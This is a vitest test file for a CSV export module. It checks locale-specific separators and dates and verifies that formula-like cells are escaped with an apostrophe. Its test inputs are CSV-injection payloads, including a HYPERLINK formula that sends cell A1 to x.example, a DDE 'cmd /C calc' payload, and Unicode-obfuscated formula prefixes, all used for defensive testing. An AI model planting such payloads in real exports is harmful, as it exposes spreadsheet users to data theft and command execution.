import { expect, test } from 'vitest';
import { readCsv } from '../../../tests/support/read-csv.ts';
import { csvBytes } from './csv.ts';
import type { Column, Row } from './exported-table.ts';

const columns: Column[] = [
  { heading: 'Text', kind: 'text', width: 12 },
  { heading: 'When', kind: 'moment', width: 17 },
  { heading: 'TL', kind: 'amount', width: 12 },
];
const moment = Date.UTC(2026, 10, 15, 11, 5);

async function written(rows: Row[], language: 'tr' | 'en' | 'ru'): Promise<string> {
  async function* pages(): AsyncGenerator<Row[], void> {
    yield rows;
  }
  const chunks: Buffer[] = [];
  for await (const chunk of csvBytes({ title: '', columns, pages: pages() }, language)) chunks.push(chunk);
  return Buffer.concat(chunks).toString('utf8');
}

test('each language has its separator, its decimal mark and its dates', async () => {
  const rows: Row[] = [['Ağrı', moment, 7499.5]];
  expect(await written(rows, 'tr')).toBe('\ufeff"Text";"When";"TL"\r\n"Ağrı";15.11.2026 13:05;7499,5\r\n');
  expect(await written(rows, 'en')).toBe('\ufeff"Text","When","TL"\r\n"Ağrı",2026-11-15 13:05,7499.5\r\n');
  expect(await written(rows, 'ru')).toBe('\ufeff"Text";"When";"TL"\r\n"Ağrı";15.11.2026 13:05;7499,5\r\n');
});

test.each([
  '=1+1',
  '=HYPERLINK("http://x.example/?"&A1;"click")',
  "=cmd|' /C calc'!A0",
  '+90 533 123 45 67',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '  =1',
  '\u00a0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '｜x',
  '％0A=1',
  '|x',
  '%0A=1',
  '\u200b=1',
  '\u200e\u2060+1',
  '\ufeff=1',
  '\u00ad@SUM(A1)',
  '\u0001=1',
  '\u007f-1',
  '\u3164=1',
  '\u115f=1',
  '\u2800=1',
  '\u034f=1',
  '\ufe0f=1',
  '\u{e0001}=1',
])('a text that could be taken for a formula has an apostrophe before it: %j', async (text) => {
  const [, row] = readCsv(await written([[text, null, null]], 'tr'), ';');
  expect(row).toEqual([`'${text}`, '', '']);
});

test.each([
  '\u200eAyşe',
  'Ayşe',
  '0533 123 45 67',
  'a=b',
  'a;b,c',
  'says "no"',
  'two\r\nlines',
  '',
  "'quoted",
  '😀',
])('any other text is as it was: %j', async (text) => {
  for (const [language, separator] of [
    ['tr', ';'],
    ['en', ','],
  ] as const) {
    const [, row] = readCsv(await written([[text, null, 0]], language), separator);
    expect(row).toEqual([text, '', '0']);
  }
});
